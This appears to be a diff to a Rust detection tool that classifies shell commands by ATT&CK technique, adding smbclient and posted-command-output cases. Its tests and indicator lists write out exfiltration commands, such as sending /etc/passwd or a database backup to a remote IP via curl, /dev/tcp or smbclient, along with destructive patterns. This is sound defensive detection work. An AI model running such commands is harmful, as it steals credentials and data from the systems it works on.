@@ -67,7 +67,7 @@ pub const INDICATORS: &[Indicator] = indicators! {
     "cmd_firewall" => ["iptables", "ufw ", "nft ", "firewalld", "firewall-cmd", "ip6tables", "ipfw"], "firewall changed", "T1562.004";
     "cmd_capture" => ["tcpdump", "tshark", "wireshark", "dumpcap", "ettercap", "tcpflow"], "network traffic captured", "T1040";
     "cmd_archive" => ["tar c", "tar -c", "zip ", "7z a", "gzip", "rar a", "tar czf", "tar cf", "tar -z", "bzip2", "xz "], "data archived", "T1560.001";
-    "cmd_exfil" => ["--data", "-d @", "--upload-file", "-t ", "-f file=", "-x post", "-x put", "--post-file", "--body-file", "nc -w", "scp ", "smbclient", "sftp", "--post-data", "curl -f", "-t /", "ftp -", "ftp put", "put "], "data sent to a remote host", "T1048";
+    "cmd_exfil" => ["--data", "-d @", "--upload-file", "-t ", "-f file=", "-x post", "-x put", "--post-file", "--body-file", "nc -w", "scp ", "smbclient", "sftp", "--post-data", "curl -f", "-t /", "ftp -", "ftp put", "put "], "an option or tool that can send data to another host", "";
     "cmd_destroy" => ["dd if=/dev/zero", "dd if=/dev/urandom", "mkfs", "wipefs", ":(){", "kill -9 -1", "> /dev/sd", "of=/dev/", "openssl enc", "gpg -c", "gpg --symmetric", "ccencrypt", "--encrypt", "sysctl -w", "halt", "shutdown", "reboot", "init 0"], "destructive or encrypting action", "T1485";
     "cmd_tmp_path" => ["/tmp/", "/dev/shm", "/var/tmp", "/run/user"], "works in a world-writable directory", "";
     "cmd_kernel_module" => ["insmod", "modprobe", "rmmod", ".ko ", "kmod", "/lib/modules"], "kernel module loaded", "T1547.006";
@@ -952,9 +952,11 @@ pub fn command_technique(line: &str) -> &'static str {
 /// its arguments give the transfer: a local file sent to a remote host
 /// (`curl -T file`, `curl --data-binary @file`, `curl -F f=@file`, `wget
 /// --post-file`, `ab -p file`, `nc host port < file`, `scp file
-/// host:dir`, a file's contents redirected into a `/dev/tcp` socket) is
-/// exfiltration (T1048); a remote file fetched here (`scp host:file .`,
-/// `rsync host:dir/ .`) is an ingress tool transfer (T1105). ATT&CK names
+/// host:dir`, `smbclient -c 'put file'`, a file's contents redirected into
+/// a `/dev/tcp` socket) or a command's output posted (`curl -d "$(…)"`)
+/// is exfiltration (T1048); a remote file fetched here (`scp host:file
+/// .`, `rsync host:dir/ .`, `smbclient -c 'get file'`) is an ingress tool
+/// transfer (T1105). ATT&CK names
 /// both by the direction, whatever the tool. Empty when the line moves no
 /// file, and when the transfer tool is told to run a program instead
 /// (`scp -S prog`, `rsync -e 'sh -c …'`).
@@ -981,7 +983,16 @@ pub fn transfer_technique(line: &str) -> &'static str {
 }
 
 const TRANSFER_TOOLS: &[&str] = &[
-    "curl", "wget", "ab", "nc", "ncat", "netcat", "telnet", "scp", "rsync",
+    "curl",
+    "wget",
+    "ab",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "scp",
+    "rsync",
+    "smbclient",
 ];
 
 /// The direction one transfer tool's arguments (after its own name) move
@@ -990,6 +1001,11 @@ fn transfer_direction(tool: &str, args: &[&str]) -> &'static str {
     let after = |flags: &[&str]| {
         args.windows(2)
             .any(|w| flags.contains(&w[0]) && !w[1].is_empty() && w[1] != "-")
+    };
+    // A command's output posted (`-d "$(cat /etc/passwd)"`).
+    let command_output_after = |flags: &[&str]| {
+        args.windows(2)
+            .any(|w| flags.contains(&w[0]) && w[1].starts_with("$("))
     };
     // A file read from disk: `@file` (not `@-`, standard input).
     let file_ref = |w: &str| w.len() > 1 && w != "@-" && !w.starts_with("@-");
@@ -1008,10 +1024,16 @@ fn transfer_direction(tool: &str, args: &[&str]) -> &'static str {
                 || args
                     .iter()
                     .any(|w| w.starts_with("-d@") && file_ref(&w[2..]) || w.starts_with("-T/"))
+                || command_output_after(&["-d", "--data", "--data-binary", "--data-urlencode"])
         }
-        "wget" => args
-            .iter()
-            .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file")),
+        "wget" => {
+            args.iter()
+                .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file"))
+                || command_output_after(&["--post-data"])
+                || args.iter().any(|w| w.starts_with("--post-data=$("))
+        }
+        "smbclient" if args.iter().any(|w| matches!(*w, "get" | "mget")) => return "T1105",
+        "smbclient" => args.iter().any(|w| matches!(*w, "put" | "mput")),
         "ab" => after(&["-p", "-u"]),
         "nc" | "ncat" | "netcat" | "telnet" => args.iter().enumerate().any(|(i, a)| {
             *a == "<" && args.get(i + 1).is_some_and(|b| !b.is_empty())
@@ -1416,12 +1438,15 @@ mod tests {
             "cat /etc/passwd > /dev/tcp/203.0.113.7/80",
             "bash -c 'echo -n \"$(</root/notes)\" >/dev/tcp/203.0.113.7/4444'",
             "tar czf - /home | cat >/dev/tcp/203.0.113.7/9000",
+            "curl -s -d \"$(cat /etc/passwd)\" http://203.0.113.7/c",
+            "smbclient '\\\\203.0.113.7\\share' -c 'put /var/backups/db.sql db.sql'",
         ] {
             assert_eq!(transfer_technique(line), "T1048", "{line}");
         }
         for line in [
             "scp user@203.0.113.7:/srv/tool /tmp/tool",
             "rsync -e ssh deploy@203.0.113.7:releases/ ./releases/",
+            "smbclient //fs/share -c 'get tools.zip'",
         ] {
             assert_eq!(transfer_technique(line), "T1105", "{line}");
         }
@@ -1439,6 +1464,7 @@ mod tests {
             // indicator names those).
             "rsync -a /srv/www/ /var/backups/www/",
             "curl -fsSL -o /tmp/x https://203.0.113.7/x",
+            "curl -s -X POST -d '{\"ok\":1}' http://127.0.0.1:8080/health",
             "nc -zv 10.0.0.5 5432",
         ] {
             assert_eq!(transfer_technique(line), "", "{line}");
